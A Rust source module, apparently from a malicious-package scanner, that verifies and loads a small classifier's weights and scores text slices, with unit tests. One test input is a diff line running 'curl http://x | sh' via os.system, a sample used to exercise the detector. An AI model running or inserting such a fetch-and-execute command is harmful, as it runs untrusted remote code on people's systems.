//! The pre-check model: a hashed embedding bag with one hidden layer.
//!
//! `score = sigmoid(w2 · relu(W1 · mean(E[f] for f in features) + b1) + b2)`
//!
//! Weights live in `model.safetensors` (embedding stored as f16 to keep the
//! file small), the architecture and calibrated thresholds in `config.json`,
//! and provenance plus the sha256 of both files in `manifest.json`. Loading
//! verifies both hashes (a built-in model's were taken by the build script
//! from the bytes it embedded) and refuses a model that does not match: a
//! gate must never scan with weights it cannot vouch for.
//!
//! Inference on CPU is plain Rust over the weights (the hot path, hundreds
//! of MB/s), reading the f16 embedding in place where the CPU widens f16 in
//! hardware; on CUDA/Metal the same forward pass runs as candle ops.

use std::collections::HashMap;
use std::path::Path;

use candle_core::{DType, Device, Tensor};
use serde::{Deserialize, Serialize};

use super::features::{scan_features, ConceptStats, FeatureConfig, CONCEPT_DIM};
use super::{Slicing, View};
use crate::config::Thresholds;
use crate::util::sha256_hex;

pub const MODEL_FORMAT: &str = "canary.precheck/v1";

#[derive(Debug, thiserror::Error)]
pub enum ModelError {
    #[error("cannot read model file {path}: {source}")]
    Read {
        path: String,
        source: std::io::Error,
    },
    #[error("model file {path} is invalid: {message}")]
    Invalid { path: String, message: String },
    #[error("model file {path} does not match its manifest (sha256 {actual}, manifest says {expected}); the model is corrupt or was altered: retrain it or restore the shipped file")]
    HashMismatch {
        path: String,
        expected: String,
        actual: String,
    },
    #[error("model reference {0:?} is not available: {1}")]
    Unavailable(String, String),
    #[error("device {0:?} is not available: {1}; use `[precheck] device = \"cpu\"` (`--device cpu` for `canary train`) or a build that has it (see README, \"GPU\")")]
    Device(String, String),
    #[error("candle error on model {path}: {source}")]
    Candle {
        path: String,
        source: candle_core::Error,
    },
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, rename_all = "kebab-case")]
pub struct ModelConfig {
    pub format: String,
    /// Model name (usually the policy id it was trained for).
    pub name: String,
    pub features: FeatureConfig,
    pub dim: usize,
    pub hidden: usize,
    /// Slice length in bytes, and overlap between consecutive slices.
    pub window: usize,
    pub overlap: usize,
    /// `bytes` (windows over the whole text, the default) or `files` (each
    /// file section on its own, cut into windows when longer).
    #[serde(default, skip_serializing_if = "Slicing::is_bytes")]
    pub slicing: Slicing,
    /// With `files` slicing: neighbouring file sections share a slice while
    /// together they stay within this many bytes (0, the default: each alone).
    #[serde(default, skip_serializing_if = "is_zero")]
    pub pack: usize,
    /// `text` (the rendered input, the default) or `capabilities` (only its
    /// capability lines with context, see [`super::capabilities`]).
    #[serde(default, skip_serializing_if = "View::is_text")]
    pub view: View,
    /// Whether the hidden layer also reads the concept channel (weights `wc`).
    #[serde(default)]
    pub concept_channel: bool,
    pub thresholds: Thresholds,
}

impl ModelConfig {
    /// How texts are cut into slices for this model, in training and scans.
    pub fn slice_rule(&self) -> super::SliceRule {
        super::SliceRule {
            window: self.window,
            overlap: self.overlap,
            slicing: self.slicing,
            pack: self.pack,
        }
    }
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, rename_all = "kebab-case")]
pub struct DataFile {
    pub path: String,
    pub sha256: String,
    pub rows: usize,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, rename_all = "kebab-case")]
pub struct Manifest {
    pub format: String,
    pub weights_sha256: String,
    pub config_sha256: String,
    pub command: String,
    pub seed: u64,
    pub epochs: usize,
    pub data: Vec<DataFile>,
    pub dev: Vec<DataFile>,
    pub dev_metrics: serde_json::Value,
}

/// The three files of a model folder, as bytes.
pub struct ModelFiles {
    pub origin: String,
    pub config: std::borrow::Cow<'static, [u8]>,
    pub weights: std::borrow::Cow<'static, [u8]>,
    pub manifest: std::borrow::Cow<'static, [u8]>,
    /// sha256 (hex) of `weights` and of `config` when already known: the
    /// build script hashes a built-in model's files as it embeds them, so
    /// the check against the manifest costs nothing at run time.
    pub known_sha256: Option<(&'static str, &'static str)>,
}

impl ModelFiles {
    pub fn from_dir(dir: &Path) -> Result<ModelFiles, ModelError> {
        let read = |name: &str| {
            let p = dir.join(name);
            std::fs::read(&p).map_err(|source| ModelError::Read {
                path: p.display().to_string(),
                source,
            })
        };
        Ok(ModelFiles {
            origin: dir.display().to_string(),
            config: read("config.json")?.into(),
            weights: read("model.safetensors")?.into(),
            manifest: read("manifest.json")?.into(),
            known_sha256: None,
        })
    }
}

/// The embedding table as the CPU scorer reads it.
#[derive(Clone)]
pub enum Embedding {
    /// f32 rows, row-major (training, and CPUs without f16 conversion).
    F32(Vec<f32>),
    /// The saved little-endian f16 rows, read in place from the model
    /// file's bytes (`bytes[start..]`, 16 per row) and widened to f32 by the
    /// CPU as they are added. Widening f16 is exact, so the sums are the
    /// f32 table's bit for bit; loading skips converting and faulting in an
    /// 8 MB table, most of a small scan's time.
    F16 {
        bytes: std::borrow::Cow<'static, [u8]>,
        start: usize,
    },
}

impl std::fmt::Debug for Embedding {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Embedding::F32(v) => write!(f, "Embedding::F32({} values)", v.len()),
            Embedding::F16 { bytes, start } => {
                write!(f, "Embedding::F16({} values)", (bytes.len() - start) / 2)
            }
        }
    }
}

impl Embedding {
    /// The table as f32 values: borrowed, or widened into a copy.
    pub fn to_f32(&self) -> std::borrow::Cow<'_, [f32]> {
        match self {
            Embedding::F32(v) => std::borrow::Cow::Borrowed(v),
            Embedding::F16 { bytes, start } => std::borrow::Cow::Owned(widen_f16(&bytes[*start..])),
        }
    }
}

/// Little-endian f16 values widened to f32 (exactly).
fn widen_f16(bytes: &[u8]) -> Vec<f32> {
    bytes
        .chunks_exact(2)
        .map(|b| half::f16::from_le_bytes([b[0], b[1]]).to_f32())
        .collect()
}

/// Whether this CPU widens f16 to f32 in hardware (x86-64 F16C with AVX).
fn cpu_widens_f16() -> bool {
    #[cfg(target_arch = "x86_64")]
    {
        std::arch::is_x86_feature_detected!("avx") && std::arch::is_x86_feature_detected!("f16c")
    }
    #[cfg(not(target_arch = "x86_64"))]
    {
        false
    }
}

/// Weights on the CPU, row-major.
#[derive(Debug, Clone)]
pub struct Weights {
    pub embedding: Embedding,
    pub w1: Vec<f32>,
    /// `[hidden, CONCEPT_DIM]`, empty without the concept channel.
    pub wc: Vec<f32>,
    pub b1: Vec<f32>,
    pub w2: Vec<f32>,
    pub b2: f32,
}

#[derive(Debug, Clone)]
pub struct HashedModel {
    pub config: ModelConfig,
    pub weights: Weights,
    /// `name@sha256-prefix`, as shown in reports.
    pub id: String,
    pub weights_sha256: String,
    pub manifest: Manifest,
    device: Device,
    /// The weights as tensors on `device`, made on first use by the candle
    /// path: uploading an 8 MB table for every slice would dwarf the slice.
    tensors: std::sync::OnceLock<DeviceWeights>,
}

/// [`Weights`] as tensors on the model's device.
#[derive(Debug, Clone)]
struct DeviceWeights {
    embedding: Tensor,
    w1: Tensor,
    b1: Tensor,
    w2: Tensor,
    wc: Option<Tensor>,
}

impl HashedModel {
    /// Verifies and loads a model from its files.
    pub fn load(files: ModelFiles, device: &Device) -> Result<HashedModel, ModelError> {
        let origin = files.origin.clone();
        let path = |name: &str| format!("{origin}/{name}");
        let manifest: Manifest =
            serde_json::from_slice(&files.manifest).map_err(|e| ModelError::Invalid {
                path: path("manifest.json"),
                message: e.to_string(),
            })?;
        // Only the build script knows a model's hashes ahead: a built-in.
        let builtin = files.known_sha256.is_some();
        let (weights_sha, config_sha) = match files.known_sha256 {
            Some((w, c)) => (w.to_string(), c.to_string()),
            None => rayon::join(|| sha256_hex(&files.weights), || sha256_hex(&files.config)),
        };
        if weights_sha != manifest.weights_sha256 {
            return Err(ModelError::HashMismatch {
                path: path("model.safetensors"),
                expected: manifest.weights_sha256.clone(),
                actual: weights_sha,
            });
        }
        if config_sha != manifest.config_sha256 {
            return Err(ModelError::HashMismatch {
                path: path("config.json"),
                expected: manifest.config_sha256.clone(),
                actual: config_sha,
            });
        }
        let config: ModelConfig =
            serde_json::from_slice(&files.config).map_err(|e| ModelError::Invalid {
                path: path("config.json"),
                message: e.to_string(),
            })?;
        if config.format != MODEL_FORMAT {
            return Err(ModelError::Invalid {
                path: path("config.json"),
                message: format!("format {:?}, expected {MODEL_FORMAT:?}", config.format),
            });
        }
        if config.window == 0
            || config.overlap >= config.window
            || config.features.buckets_log2 > 24
        {
            return Err(ModelError::Invalid {
                path: path("config.json"),
                message: "window must be positive and larger than overlap; buckets-log2 at most 24"
                    .into(),
            });
        }
        // In place only where the CPU widens f16 and the scorer has the
        // fixed 16-wide path; a GPU model uploads f32.
        let in_place = device.is_cpu() && config.dim == 16 && cpu_widens_f16();
        let weights = weights_from_safetensors(files.weights, &config, in_place, !builtin)
            .map_err(|message| ModelError::Invalid {
                path: path("model.safetensors"),
                message,
            })?;
        Ok(HashedModel {
            id: format!("{}@{}", config.name, &manifest.weights_sha256[..12]),
            weights_sha256: manifest.weights_sha256.clone(),
            config,
            weights,
            manifest,
            device: device.clone(),
            tensors: Default::default(),
        })
    }

    /// Builds a model from in-memory weights (training uses this to score dev).
    pub fn from_parts(config: ModelConfig, weights: Weights) -> HashedModel {
        HashedModel {
            id: format!("{}@unsaved", config.name),
            weights_sha256: String::new(),
            manifest: Manifest {
                format: MODEL_FORMAT.into(),
                weights_sha256: String::new(),
                config_sha256: String::new(),
                command: String::new(),
                seed: 0,
                epochs: 0,
                data: vec![],
                dev: vec![],
                dev_metrics: serde_json::Value::Null,
            },
            config,
            weights,
            device: Device::Cpu,
            tensors: Default::default(),
        }
    }

    /// Score of one slice (plain Rust, CPU).
    pub fn score_slice(&self, text: &[u8]) -> f32 {
        let mut stats = ConceptStats::default();
        let stats_ref = self.config.concept_channel.then_some(&mut stats);
        let (acc, n) = match &self.weights.embedding {
            #[cfg(target_arch = "x86_64")]
            Embedding::F16 { bytes, start } => {
                // SAFETY: an F16 table is only built where `cpu_widens_f16`
                // found AVX and F16C, and only for 16 dimensions.
                let (a, n) = unsafe { pool_f16(&bytes[*start..], &self.config, text, stats_ref) };
                (a.to_vec(), n)
            }
            #[cfg(not(target_arch = "x86_64"))]
            Embedding::F16 { .. } => (vec![f32::NAN; self.config.dim], 1),
            // Both shipped models have 16 dimensions: a fixed-size
            // accumulator lives in registers instead of being loaded and
            // stored per row.
            Embedding::F32(emb) if self.config.dim == 16 => {
                let (a, n) = pool(emb, &self.config, [0f32; 16], text, stats_ref);
                (a.to_vec(), n)
            }
            Embedding::F32(emb) => pool(
                emb,
                &self.config,
                vec![0f32; self.config.dim],
                text,
                stats_ref,
            ),
        };
        let inv = 1.0 / n.max(1) as f32;
        let cvec = if self.config.concept_channel {
            stats.vector()
        } else {
            Vec::new()
        };
        self.head(&acc, inv, &cvec)
    }

    /// The same model with its embedding widened to f32 rows (tests compare
    /// the two scoring paths).
    pub fn with_f32_rows(&self) -> HashedModel {
        let mut m = self.clone();
        m.weights.embedding = Embedding::F32(self.weights.embedding.to_f32().into_owned());
        m
    }

    fn head(&self, pooled_sum: &[f32], inv: f32, cvec: &[f32]) -> f32 {
        let d = self.config.dim;
        let w = &self.weights;
        let mut logit = w.b2;
        for j in 0..self.config.hidden {
            let row = &w.w1[j * d..(j + 1) * d];
            let mut z = w.b1[j];
            for (a, b) in row.iter().zip(pooled_sum) {
                z += a * b * inv;
            }
            if !cvec.is_empty() {
                let crow = &w.wc[j * CONCEPT_DIM..(j + 1) * CONCEPT_DIM];
                for (a, b) in crow.iter().zip(cvec) {
                    z += a * b;
                }
            }
            logit += w.w2[j] * z.max(0.0);
        }
        sigmoid(logit)
    }

    /// Score of one slice with candle ops on the model's device (CUDA/Metal path;
    /// also used on CPU by tests to check both paths agree).
    pub fn score_slice_candle(&self, text: &[u8]) -> candle_core::Result<f32> {
        let mut ids = Vec::new();
        let mut stats = ConceptStats::default();
        scan_features(text, &self.config.features, Some(&mut stats), |f| {
            ids.push(f)
        });
        if self.config.features.distinct {
            ids.sort_unstable();
            ids.dedup();
        }
        let dev = &self.device;
        let d = self.config.dim;
        let t = self.device_weights()?;
        let pooled = if ids.is_empty() {
            Tensor::zeros((1, d), DType::F32, dev)?
        } else {
            let n = ids.len();
            let idx = Tensor::from_vec(ids, n, dev)?;
            (t.embedding.index_select(&idx, 0)?.sum_keepdim(0)? / n as f64)?
        };
        let mut pre = pooled.matmul(&t.w1.t()?)?;
        if let Some(wc) = &t.wc {
            let c = Tensor::from_vec(stats.vector(), (1, CONCEPT_DIM), dev)?;
            pre = (pre + c.matmul(&wc.t()?)?)?;
        }
        let h = pre.broadcast_add(&t.b1)?.relu()?;
        let logit = (h.matmul(&t.w2.t()?)? + self.weights.b2 as f64)?;
        let v: Vec<f32> = logit.flatten_all()?.to_vec1()?;
        Ok(sigmoid(v[0]))
    }

    /// The weights on the model's device, uploaded once.
    fn device_weights(&self) -> candle_core::Result<&DeviceWeights> {
        if let Some(t) = self.tensors.get() {
            return Ok(t);
        }
        let (dev, d, h) = (&self.device, self.config.dim, self.config.hidden);
        let w = &self.weights;
        let rows = 1usize << self.config.features.buckets_log2;
        let made = DeviceWeights {
            embedding: Tensor::from_slice(&w.embedding.to_f32(), (rows, d), dev)?,
            w1: Tensor::from_slice(&w.w1, (h, d), dev)?,
            b1: Tensor::from_slice(&w.b1, h, dev)?,
            w2: Tensor::from_slice(&w.w2, (1, h), dev)?,
            wc: match self.config.concept_channel {
                true => Some(Tensor::from_slice(&w.wc, (h, CONCEPT_DIM), dev)?),
                false => None,
            },
        };
        // Two threads may both build it; one copy is kept, both are equal.
        Ok(self.tensors.get_or_init(|| made))
    }

    pub fn on_cpu(&self) -> bool {
        self.device.is_cpu()
    }

    /// Serialises the weights (embedding as f16) and returns the bytes.
    pub fn weights_to_safetensors(
        weights: &Weights,
        config: &ModelConfig,
    ) -> candle_core::Result<Vec<u8>> {
        let rows = 1usize << config.features.buckets_log2;
        let dev = Device::Cpu;
        let mut map: HashMap<String, Tensor> = HashMap::new();
        map.insert(
            "embedding".into(),
            Tensor::from_slice(&weights.embedding.to_f32(), (rows, config.dim), &dev)?
                .to_dtype(DType::F16)?,
        );
        map.insert(
            "w1".into(),
            Tensor::from_slice(&weights.w1, (config.hidden, config.dim), &dev)?,
        );
        map.insert(
            "b1".into(),
            Tensor::from_slice(&weights.b1, config.hidden, &dev)?,
        );
        if config.concept_channel {
            map.insert(
                "wc".into(),
                Tensor::from_slice(&weights.wc, (config.hidden, CONCEPT_DIM), &dev)?,
            );
        }
        map.insert(
            "w2".into(),
            Tensor::from_slice(&weights.w2, config.hidden, &dev)?,
        );
        map.insert("b2".into(), Tensor::from_slice(&[weights.b2], 1, &dev)?);
        let tmp = std::env::temp_dir().join(format!(
            "canary-weights-{}-{}.safetensors",
            std::process::id(),
            rand::random::<u64>()
        ));
        candle_core::safetensors::save(&map, &tmp)?;
        let bytes = std::fs::read(&tmp)?;
        let _ = std::fs::remove_file(&tmp);
        Ok(bytes)
    }

    /// Rounds the embedding through f16, as saving does, so in-memory scores
    /// match the saved model's exactly.
    pub fn round_like_saved(weights: &mut Weights) {
        let Embedding::F32(table) = &mut weights.embedding else {
            return; // read from a saved file: already f16 values
        };
        for x in table {
            *x = half::f16::from_f32(*x).to_f32();
        }
    }
}

/// Whether a little-endian f16 table holds no infinity or NaN. Four values
/// per 64-bit word, without early exit, so the compiler can vectorise it.
fn f16_table_is_finite(data: &[u8]) -> bool {
    let words = data.chunks_exact(8);
    let mut last = [0u8; 8];
    last[..words.remainder().len()].copy_from_slice(words.remainder());
    !words.fold(has_inf_or_nan_f16(u64::from_le_bytes(last)), |bad, w| {
        let mut word = [0u8; 8];
        word.copy_from_slice(w);
        bad | has_inf_or_nan_f16(u64::from_le_bytes(word))
    })
}

/// Reads the weights straight from the safetensors bytes (f16 or f32,
/// little-endian), without going through candle tensors: loading is on the
/// path of every `canary scan`, and this is several times faster. With
/// `in_place`, an f16 embedding is kept as the file's bytes (see
/// [`Embedding::F16`]). Every tensor read into memory is checked finite;
/// `check_table` says whether an in-place f16 table is checked too. A
/// built-in model skips that: its bytes are bound by sha256 to the ones
/// `every_builtin_table_is_finite` checks in the test suite, and the check
/// would read (and keep resident) a 4 MB table that a scan may never touch
/// (a policy's veto model, asked only when the main model clears).
fn weights_from_safetensors(
    bytes: std::borrow::Cow<'static, [u8]>,
    c: &ModelConfig,
    in_place: bool,
    check_table: bool,
) -> Result<Weights, String> {
    let st = safetensors::SafeTensors::deserialize(&bytes).map_err(|e| e.to_string())?;
    let tensor = |name: &str, shape: &[usize]| {
        let t = st
            .tensor(name)
            .map_err(|_| format!("missing tensor `{name}`"))?;
        if t.shape() != shape {
            return Err(format!(
                "tensor `{name}` has shape {:?}, expected {shape:?}",
                t.shape()
            ));
        }
        Ok(t)
    };
    let get = |name: &str, shape: &[usize]| -> Result<Vec<f32>, String> {
        let t = tensor(name, shape)?;
        let data = t.data();
        let out: Vec<f32> = match t.dtype() {
            safetensors::Dtype::F16 => widen_f16(data),
            safetensors::Dtype::F32 => data
                .chunks_exact(4)
                .map(|b| f32::from_le_bytes([b[0], b[1], b[2], b[3]]))
                .collect(),
            other => {
                return Err(format!(
                    "tensor `{name}` has dtype {other:?}, expected F16 or F32"
                ))
            }
        };
        if !out.iter().all(|x| x.is_finite()) {
            return Err(format!("tensor `{name}` contains NaN or infinity"));
        }
        Ok(out)
    };
    let rows = 1usize << c.features.buckets_log2;
    let shape = [rows, c.dim];
    let emb = tensor("embedding", &shape)?;
    // Where the table is read in place: its offset in `bytes`, once checked.
    let in_place = if in_place && emb.dtype() == safetensors::Dtype::F16 {
        let data = emb.data();
        if check_table && !f16_table_is_finite(data) {
            return Err("tensor `embedding` contains NaN or infinity".into());
        }
        // The tensor's data is a subslice of `bytes`.
        Some(data.as_ptr() as usize - bytes.as_ptr() as usize)
    } else {
        None
    };
    let widened = match in_place {
        Some(_) => Vec::new(),
        None => get("embedding", &shape)?,
    };
    Ok(Weights {
        w1: get("w1", &[c.hidden, c.dim])?,
        wc: if c.concept_channel {
            get("wc", &[c.hidden, CONCEPT_DIM])?
        } else {
            Vec::new()
        },
        b1: get("b1", &[c.hidden])?,
        w2: get("w2", &[c.hidden])?,
        b2: get("b2", &[1])?[0],
        // Last: every view into `bytes` is done with, so it can move here.
        embedding: match in_place {
            Some(start) => Embedding::F16 { bytes, start },
            None => Embedding::F32(widened),
        },
    })
}

/// Calls `rows(batch)` with the features of `text` in order, in batches.
/// Rows are gathered in batches: the embedding table (MBs) lives in L3, and
/// between two features the tokenizer runs long enough that the CPU cannot
/// overlap one row's load with the next. A batch of independent loads can.
/// Adds stay in feature order, so the sum is bit-identical to adding each
/// row as it comes. Returns the number of features pooled.
#[inline(always)]
fn for_each_batch(
    c: &ModelConfig,
    text: &[u8],
    stats: Option<&mut ConceptStats>,
    mut rows: impl FnMut(&[u32]),
) -> u32 {
    let mut n = 0u32;
    if c.features.distinct {
        // A bitset over buckets: pool each feature once per slice.
        let words = (1usize << c.features.buckets_log2).div_ceil(64);
        let mut seen = vec![0u64; words];
        scan_features(text, &c.features, stats, |f| {
            let (w, b) = (f as usize / 64, 1u64 << (f % 64));
            if seen[w] & b == 0 {
                seen[w] |= b;
                rows(&[f]);
                n += 1;
            }
        });
    } else {
        const BATCH: usize = 64;
        let mut batch = [0u32; BATCH];
        let mut k = 0;
        scan_features(text, &c.features, stats, |f| {
            batch[k] = f;
            k += 1;
            if k == BATCH {
                rows(&batch);
                k = 0;
            }
            n += 1;
        });
        rows(&batch[..k]);
    }
    n
}

/// Sum of the f32 embedding rows of the slice's features, and their count.
fn pool<A: Accumulator>(
    emb: &[f32],
    c: &ModelConfig,
    mut acc: A,
    text: &[u8],
    stats: Option<&mut ConceptStats>,
) -> (A, u32) {
    let d = c.dim;
    let n = for_each_batch(c, text, stats, |fs| {
        for &f in fs {
            acc.add(&emb[f as usize * d..f as usize * d + d]);
        }
    });
    (acc, n)
}

/// [`pool`] over the in-place f16 table (16 dimensions, 32 bytes a row),
/// widening each row with F16C. Each lane adds the same values in the same
/// order as the f32 path, so the sums are bit-identical.
///
/// # Safety
/// The CPU must support AVX and F16C.
#[cfg(target_arch = "x86_64")]
#[target_feature(enable = "avx,f16c")]
unsafe fn pool_f16(
    table: &[u8],
    c: &ModelConfig,
    text: &[u8],
    stats: Option<&mut ConceptStats>,
) -> ([f32; 16], u32) {
    use std::arch::x86_64::*;
    let mut acc = [_mm256_setzero_ps(); 2];
    let n = for_each_batch(c, text, stats, |fs| {
        // SAFETY: the caller's CPU has AVX and F16C.
        unsafe { add_f16_rows(&mut acc, table, fs) }
    });
    let mut out = [0f32; 16];
    _mm256_storeu_ps(out.as_mut_ptr(), acc[0]);
    _mm256_storeu_ps(out.as_mut_ptr().add(8), acc[1]);
    (out, n)
}

/// # Safety
/// The CPU must support AVX and F16C.
#[cfg(target_arch = "x86_64")]
#[target_feature(enable = "avx,f16c")]
unsafe fn add_f16_rows(acc: &mut [std::arch::x86_64::__m256; 2], table: &[u8], fs: &[u32]) {
    use std::arch::x86_64::*;
    // Locals, not `acc[i]`: through the reference, each add was stored and
    // reloaded, and the store-to-load latency joined the chain of adds.
    let (mut a0, mut a1) = (acc[0], acc[1]);
    for &f in fs {
        let o = f as usize * 32;
        // Bounds-checked: a feature outside the table panics, never reads
        // past it (features are masked to the table's rows).
        let row = &table[o..o + 32];
        let lo = _mm_loadu_si128(row.as_ptr().cast());
        let hi = _mm_loadu_si128(row.as_ptr().add(16).cast());
        a0 = _mm256_add_ps(a0, _mm256_cvtph_ps(lo));
        a1 = _mm256_add_ps(a1, _mm256_cvtph_ps(hi));
    }
    acc[0] = a0;
    acc[1] = a1;
}

/// Whether any of the four little-endian f16 values in `word` has an
/// all-ones exponent (infinity or NaN). Zero padding is a finite zero.
fn has_inf_or_nan_f16(word: u64) -> bool {
    const EXP: u64 = 0x7c00_7c00_7c00_7c00;
    // A 16-bit lane of `v` is zero exactly where the exponent is all ones;
    // the classic has-zero-lane test, per 16 bits.
    let v = (word & EXP) ^ EXP;
    (v.wrapping_sub(0x0001_0001_0001_0001) & !v & 0x8000_8000_8000_8000) != 0
}

/// A running sum of embedding rows. Each lane adds the rows in feature
/// order, whatever the implementation, so scores do not depend on which one
/// ran.
trait Accumulator {
    fn add(&mut self, row: &[f32]);
}

impl<const D: usize> Accumulator for [f32; D] {
    #[inline(always)]
    fn add(&mut self, row: &[f32]) {
        for (a, r) in self.iter_mut().zip(row) {
            *a += r;
        }
    }
}

impl Accumulator for Vec<f32> {
    #[inline(always)]
    fn add(&mut self, row: &[f32]) {
        for (a, r) in self.iter_mut().zip(row) {
            *a += r;
        }
    }
}

fn is_zero(n: &usize) -> bool {
    *n == 0
}

pub fn sigmoid(x: f32) -> f32 {
    1.0 / (1.0 + (-x).exp())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_pooling_path_gives_the_same_bits() {
        let loaded =
            crate::precheck::load("builtin:malicious-package", None, &Device::Cpu).unwrap();
        assert_eq!(
            loaded.config.dim, 16,
            "the fixed path is the one scans take"
        );
        let wide = loaded.with_f32_rows();
        let table = match &wide.weights.embedding {
            Embedding::F32(t) => t.clone(),
            Embedding::F16 { .. } => unreachable!("with_f32_rows widens"),
        };
        let texts = [
            "".to_string(),
            "+import os\n+os.system('curl http://x | sh')\n".repeat(50),
            "--- /dev/null\n+++ b/README.md\n+Plain prose, nothing else.\n".to_string(),
        ];
        let bits = |v: &[f32]| v.iter().map(|x| x.to_bits()).collect::<Vec<_>>();
        for text in &texts {
            let c = &wide.config;
            let (fixed, n1) = pool(&table, c, [0f32; 16], text.as_bytes(), None);
            let (general, n2) = pool(&table, c, vec![0f32; 16], text.as_bytes(), None);
            assert_eq!(n1, n2);
            assert_eq!(bits(&fixed), bits(&general), "{text:.40}");
            #[cfg(target_arch = "x86_64")]
            if cpu_widens_f16() {
                let Embedding::F16 { bytes, start } = &loaded.weights.embedding else {
                    panic!("a CPU with F16C loads the f16 table in place");
                };
                // SAFETY: checked just above.
                let (half, n3) = unsafe { pool_f16(&bytes[*start..], c, text.as_bytes(), None) };
                assert_eq!(n1, n3);
                assert_eq!(bits(&fixed), bits(&half), "{text:.40}");
            }
            assert_eq!(
                loaded.score_slice(text.as_bytes()).to_bits(),
                wide.score_slice(text.as_bytes()).to_bits()
            );
        }
        // And the sum is not trivially zero on text with features.
        let (fixed, n) = pool(&table, &wide.config, [0f32; 16], texts[1].as_bytes(), None);
        assert!(n > 0 && fixed.iter().any(|x| *x != 0.0));
    }

    #[test]
    fn f16_lanes_with_an_all_ones_exponent_are_found() {
        let lanes = |l: [u16; 4]| {
            u64::from(l[0]) | u64::from(l[1]) << 16 | u64::from(l[2]) << 32 | u64::from(l[3]) << 48
        };
        let bad = [0x7c00, 0xfc00, 0x7e00, 0x7c01, 0xffff];
        let good = [0x0000, 0x3c00, 0x7bff, 0xfbff, 0x0400, 0x8000, 0x03ff];
        for b in bad {
            for lane in 0..4 {
                let mut l = [0x3c00; 4];
                l[lane] = b;
                assert!(has_inf_or_nan_f16(lanes(l)), "{b:#06x} in lane {lane}");
            }
        }
        for &g1 in &good {
            for &g2 in &good {
                assert!(
                    !has_inf_or_nan_f16(lanes([g1, g2, g2, g1])),
                    "{g1:#x} {g2:#x}"
                );
            }
        }
    }

    #[test]
    fn every_builtin_table_is_finite() {
        // What loading a built-in skips: its tables, checked here once.
        let names = crate::precheck::builtin_models();
        assert!(
            names.contains(&"malicious-package")
                && names.contains(&"malicious-package-capabilities")
        );
        for (name, _, weights, ..) in crate::precheck::embedded::EMBEDDED_MODELS {
            let st = safetensors::SafeTensors::deserialize(weights).unwrap();
            for (tensor, view) in st.tensors() {
                let ok = match view.dtype() {
                    safetensors::Dtype::F16 => f16_table_is_finite(view.data()),
                    _ => view
                        .data()
                        .chunks_exact(4)
                        .all(|b| f32::from_le_bytes([b[0], b[1], b[2], b[3]]).is_finite()),
                };
                assert!(ok, "{name}: tensor {tensor} holds infinity or NaN");
            }
        }
    }

    #[test]
    fn a_non_finite_weight_refuses_the_model() {
        let files = |weights: Vec<u8>| ModelFiles {
            origin: "test".into(),
            config: include_bytes!("../../models/malicious-package/config.json")[..].into(),
            manifest: include_bytes!("../../models/malicious-package/manifest.json")[..].into(),
            known_sha256: None,
            weights: weights.into(),
        };
        let good = include_bytes!("../../models/malicious-package/model.safetensors").to_vec();
        let config: ModelConfig =
            serde_json::from_slice(include_bytes!("../../models/malicious-package/config.json"))
                .unwrap();
        for in_place in [false, true] {
            assert!(weights_from_safetensors(good.clone().into(), &config, in_place, true).is_ok());
            // f16 infinity (0x7c00) as the last embedding value.
            let st = safetensors::SafeTensors::deserialize(&good).unwrap();
            let data = st.tensor("embedding").unwrap().data();
            let end = data.as_ptr() as usize - good.as_ptr() as usize + data.len();
            let mut bad = good.clone();
            bad[end - 2..end].copy_from_slice(&0x7c00u16.to_le_bytes());
            let e =
                weights_from_safetensors(bad.clone().into(), &config, in_place, true).unwrap_err();
            assert!(e.contains("NaN or infinity"), "{e}");
            // Through `load`, the altered file fails its hash first.
            assert!(matches!(
                HashedModel::load(files(bad), &Device::Cpu),
                Err(ModelError::HashMismatch { .. })
            ));
        }
    }
}
